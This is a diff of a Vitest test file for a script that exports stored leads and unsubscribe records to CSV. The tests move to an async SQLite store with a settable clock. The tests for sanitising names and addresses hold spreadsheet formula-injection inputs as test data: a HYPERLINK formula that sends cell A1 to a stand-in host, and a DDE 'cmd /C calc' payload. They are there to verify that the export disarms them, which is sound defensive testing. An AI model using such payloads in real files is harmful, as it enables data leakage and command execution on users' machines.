@@ -2,9 +2,10 @@ import { readFileSync, statSync } from "node:fs";
 import { join } from "node:path";
 import { expect, onTestFinished, test, vi } from "vitest";
 import { eventNames, homeLeadForm } from "#domain/collector.ts";
-import { openStore } from "#server/store.ts";
+import { openSqliteStore } from "#server/store/sqlite-store.ts";
 import { identityOf, leadMessage } from "#server/testing/client.ts";
 import { runScript, startScript } from "#server/testing/process.ts";
+import { onSameThread } from "#server/testing/same-thread.ts";
 import { temporaryFolder } from "#server/testing/site.ts";
 
 /** Processes start slowly on a busy machine. */
@@ -13,28 +14,30 @@ vi.setConfig({ testTimeout: 30_000 });
 const header =
   "Identity,Name,Email,Terminos,CheckPublicidad,Channel,IsLead,received_at,form_submitted_at,unsubscribed_at";
 
-/** Stays open, as in a running server. */
-function storeWith(names: readonly string[]) {
+/** Stays open, as in a running server; `at` sets its clock. */
+async function storeWith(names: readonly string[]) {
   const databaseFile = join(temporaryFolder(), "wim.sqlite");
-  const store = openStore(databaseFile);
+  let now = "";
+  const store = await openSqliteStore(databaseFile, { now: () => new Date(now), startThread: onSameThread });
   onTestFinished(() => store.close());
+  const at = (time: string) => {
+    now = time;
+    return store;
+  };
   for (const [index, Name] of names.entries()) {
     const { properties, ...message } = leadMessage(index);
-    const receivedAt = new Date(Date.UTC(2026, 2, 1, 12, 0, index));
-    store.add({ ...message, page: "", properties: { ...properties, Name } }, receivedAt);
+    await at(`2026-03-01T12:00:0${index}Z`).add({ ...message, page: "", properties: { ...properties, Name } });
   }
-  return { store, databaseFile };
+  return { at, databaseFile };
 }
 
 const leads = (databaseFile: string, ...args: string[]) =>
   runScript("scripts/leads.ts", { DATABASE_FILE: databaseFile }, args);
 
 test("exports what is stored, while the store is in use", async () => {
-  const { store, databaseFile } = storeWith(["Ana", "José Ñandú"]);
-  store.add(
-    { event: eventNames.formSubmitted, Identity: identityOf(0), page: "", properties: homeLeadForm },
-    new Date("2026-03-01T12:30:00Z"),
-  );
+  const { at, databaseFile } = await storeWith(["Ana", "José Ñandú"]);
+  const form = { event: eventNames.formSubmitted, Identity: identityOf(0), page: "", properties: homeLeadForm };
+  await at("2026-03-01T12:30:00Z").add(form);
   const { exitCode, stdout, stderr } = await leads(databaseFile, "--csv");
   expect([exitCode, stderr]).toEqual([0, ""]);
   expect(stdout.split("\n")).toEqual([
@@ -46,10 +49,10 @@ test("exports what is stored, while the store is in use", async () => {
 });
 
 test("marks the leads that later unsubscribed, and lists every address that did", async () => {
-  const { store, databaseFile } = storeWith(["Ana"]);
-  store.unsubscribe(" ANA@wim.example ", new Date("2026-03-02T00:00:00Z"));
-  store.unsubscribe("nadie@wim.example", new Date("2026-03-02T00:01:00Z"));
-  store.unsubscribe("ana@wim.example", new Date("2026-03-03T00:00:00Z"));
+  const { at, databaseFile } = await storeWith(["Ana"]);
+  await at("2026-03-02T00:00:00Z").unsubscribe(" ANA@wim.example ");
+  await at("2026-03-02T00:01:00Z").unsubscribe("nadie@wim.example");
+  await at("2026-03-03T00:00:00Z").unsubscribe("ana@wim.example");
   expect((await leads(databaseFile, "--csv")).stdout).toMatch(/12:00:00\.000Z,,2026-03-03T00:00:00\.000Z\n$/);
   expect((await leads(databaseFile)).stdout).toMatch(
     /después de dejar sus datos: 1\nCorreos que pidieron la baja: 2\n/,
@@ -60,14 +63,12 @@ test("marks the leads that later unsubscribed, and lists every address that did"
     "nadie@wim.example,2026-03-02T00:01:00.000Z,2026-03-02T00:01:00.000Z",
     "",
   ]);
-  const { store: later, databaseFile: laterFile } = storeWith([]);
-  later.unsubscribe("ana@wim.example", new Date("2026-01-01T00:00:00Z"));
-  later.add({ ...leadMessage(0), page: "" }, new Date("2026-03-01T12:00:00Z"));
-  expect((await leads(laterFile, "--csv")).stdout).toMatch(/12:00:00\.000Z,,\n$/);
+  await at("2026-03-04T12:00:00Z").add({ ...leadMessage(7), page: "" });
+  expect((await leads(databaseFile, "--csv")).stdout).toMatch(/04T12:00:00\.000Z,,\n$/);
 });
 
-test("quotes what would break a row and disarms what a spreadsheet would run", async () => {
-  const { databaseFile } = storeWith([
+test("cleans what would break a row or a list of addresses, and disarms what a spreadsheet would run", async () => {
+  const { databaseFile } = await storeWith([
     'Ana "la buena"',
     "López, Ana",
     "Ana\nLópez",
@@ -83,12 +84,12 @@ test("quotes what would break a row and disarms what a spreadsheet would run", a
   const afterIdentity = stdout.split(/MKT-[0-9-]+,/).slice(1);
   const expected = [
     '"Ana ""la buena"""',
-    '"López, Ana"',
-    '"Ana\nLópez"',
+    "López Ana",
+    "Ana López",
     "'=HYPERLINK(1)",
-    `"'=HYPERLINK(""https://otro.example/?""&A1,""Ana"")"`,
+    `"'=HYPERLINK(""https://otro.example/ ""&A1 ""Ana"")"`,
     "'＝cmd|' /C calc'!A0",
-    "'\t=1+1",
+    "'=1+1",
     "'+52",
     "'@ana",
     "'-1",
@@ -97,14 +98,14 @@ test("quotes what would break a row and disarms what a spreadsheet would run", a
 });
 
 test("disarms the addresses that anyone may type into the unsubscribe form", async () => {
-  const { store, databaseFile } = storeWith([]);
-  store.unsubscribe('=HYPERLINK("https://otro.example")', new Date("2026-03-02T00:00:00Z"));
+  const { at, databaseFile } = await storeWith([]);
+  await at("2026-03-02T00:00:00Z").unsubscribe('=HYPERLINK("https://otro.example")');
   const { stdout } = await leads(databaseFile, "--unsubscribed", "--csv");
   expect(stdout).toContain(`\n"'=hyperlink(""https://otro.example"")",2026`);
 });
 
 test("writes to a file that only its owner can read", async () => {
-  const { databaseFile } = storeWith(["Ana"]);
+  const { databaseFile } = await storeWith(["Ana"]);
   const file = join(temporaryFolder(), "leads.csv");
   expect(await leads(databaseFile, "--csv", "--out", file)).toMatchObject({ exitCode: 0, stderr: "" });
   expect(readFileSync(file, "utf8")).toMatch(new RegExp(`^${header}\nMKT-.*\n$`));
@@ -112,17 +113,17 @@ test("writes to a file that only its owner can read", async () => {
 });
 
 test("sums up without flags", async () => {
-  const { databaseFile } = storeWith(["Ana", "Eva"]);
+  const { databaseFile } = await storeWith(["Ana", "Eva"]);
   const { stdout } = await leads(databaseFile);
   expect(stdout).toContain("Leads: 2\nPrimero: 2026-03-01T12:00:00.000Z\nÚltimo: 2026-03-01T12:00:01.000Z\n");
   expect(stdout).toContain("Sin FORM_SUBMITTED: 2");
-  expect((await leads(storeWith([]).databaseFile)).stdout).toBe("Todavía no hay leads.\n");
+  expect((await leads((await storeWith([])).databaseFile)).stdout).toBe("Todavía no hay leads.\n");
 });
 
 test("stops quietly when its reader closes the pipe", async () => {
-  const { store, databaseFile } = storeWith([]);
+  const { at, databaseFile } = await storeWith([]);
   const manyLeads = Array.from({ length: 3_000 }, (_, index) => ({ ...leadMessage(index), page: "" }));
-  store.addAll(manyLeads, new Date("2026-03-01T12:00:00Z"));
+  await at("2026-03-01T12:00:00Z").addAll(manyLeads);
   const child = startScript("scripts/leads.ts", { DATABASE_FILE: databaseFile }, ["--csv"]);
   let stderr = "";
   child.stderr.on("data", (chunk) => {
